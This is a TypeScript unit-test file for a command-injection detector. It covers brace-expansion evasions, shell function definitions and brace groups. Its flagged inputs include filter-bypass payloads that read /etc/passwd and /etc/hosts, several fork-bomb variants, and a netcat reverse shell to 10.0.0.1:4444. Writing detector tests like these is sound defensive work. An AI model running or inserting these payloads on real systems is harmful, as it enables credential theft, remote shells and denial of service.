import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { decodeValue } from '../../../src/threat/decode/normalize.js';
import { detectCmdi } from '../../../src/threat/detectors/cmdi.js';

const score = (s: string) => detectCmdi(decodeValue(s)).confidence;
const flags = (list: string[]) => { for (const a of list) it(`flags ${JSON.stringify(a)}`, () => assert.ok(score(a) >= 0.8, `${a}: ${score(a)}`)); };
const leaves = (list: string[]) => { for (const b of list) it(`does not flag ${JSON.stringify(b)}`, () => assert.ok(score(b) < 0.8, `${b}: ${score(b)}`)); };

describe('brace expansion that spells a command', () => {
  describe('empty leading elements or a glob path first', () => {
    flags(['{,uname,-a}', '{,,netstat}', 'x;{,/b??/?at,/etc/hosts}', "{,$'id',}"]);
    leaves(['{,}', '{,a,b}', '{,"name":1}', '{,cats,dogs}', '{,/docs/a,/docs/b}']);
  });
  describe('inside a word', () => {
    flags(['wh{o,at}ami', 'x; un{a,b}me -a', 'p{i,o}ng -c 1 10.0.0.1', 'ifcon{f,x}ig']);
    leaves(['file{1,2}.txt', 'img-{small,large}.png', 'the c{a,u}t', 'size {s,m,l}', 'a{b,c}d']);
  });
});

describe('a shell function defined and then run by name', () => {
  flags(['g(){ g|g& };g', 'boom() { boom | boom & }; boom', ':(){ :|:& };:', 'run(){ id; }\nrun']);
  leaves(['function f(){ return 1 }; f()', 'f(){ x }; g', 'const o = { m(){ return 1 } }; m', 'f() {}', 'main(){ }; main(argc)']);
});

describe('a brace followed by a blank opens a group or a code block, not a brace expansion', () => {
  flags(['{cat,/etc/passwd}', ';{cat,/etc/passwd}', '{${IFS}cat,/etc/passwd}', 'x|{nc,-e,/bin/sh,10.0.0.1,4444}', '{,/b??/?at,/etc/hosts}']);
  leaves(["import { rename, stat } from 'node:fs';", '// const { host, hostname, protocol, port } = connectParams', 'const { cat, dog } = pets;',
    'import {\n  rename,\n  stat,\n} from "node:fs"']);
});
